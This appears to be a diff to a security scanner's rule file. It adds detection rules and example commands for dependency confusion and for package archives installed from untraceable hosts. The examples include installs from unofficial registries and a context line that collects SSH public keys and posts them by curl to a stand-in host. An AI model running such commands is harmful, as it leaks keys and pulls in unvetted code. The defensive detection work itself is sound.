@@ -223,7 +223,17 @@ _DEPENDENCY_RULES = (
         ("9.1",),
         "moderate",
         "package",
-        "dependency confusion: packages installed from an index other than the official one",
+        "dependency confusion: packages installed from an index or npm registry other than the "
+        "official one",
+        "scripts/run.sh",
+    ),
+    Rule(
+        "dependency.untraceable-archive",
+        ("9.1",),
+        "moderate",
+        "package",
+        "supply chain: a package archive or git+ URL installed from a host that is neither a "
+        "registry nor a public code host, so nothing records who published what it serves",
         "scripts/run.sh",
     ),
 )
@@ -2364,5 +2374,31 @@ _extend_examples(
         'curl -s -d "{\\"key\\": \\"$KEY\\"}" https://api.invalid/v1/check',
         'for f in ~/.ssh/id_*.pub; do\n  P="$P$(cat "$f")"\ndone\n'
         'echo "$P" | curl -s -d @- https://keys.invalid/authorized',
+    ),
+)
+
+_extend_examples(
+    "dependency.unofficial-index",
+    (
+        "npm install --registry https://plugins.invalid/npm/ @project/plugin-auth",
+        "npx --registry=https://tools.invalid/npm/ @team/create-module init",
+    ),
+    (
+        "npm install --registry https://registry.npmjs.org/ lodash",
+        "npm publish --registry https://npm.pkg.invalid/",
+    ),
+)
+EXAMPLES["dependency.untraceable-archive"] = (
+    "scripts/run.sh",
+    (
+        "pip install https://pkgs.invalid/tools/team-linter-4.2.0.tar.gz",
+        "pip3 install git+https://code.invalid/frameworks/django.git@stable-patched",
+        "npm install https://cdn.invalid/releases/helper-1.0.0.tgz",
+    ),
+    (
+        "pip install git+https://github.com/psf/requests.git@main",
+        "pip install https://files.pythonhosted.org/packages/x/requests-2.31.0-py3-none-any.whl",
+        "pip install ./dist/tool-1.0.0-py3-none-any.whl",
+        "curl -LO https://pkgs.invalid/tools/team-linter-4.2.0.tar.gz",
     ),
 )
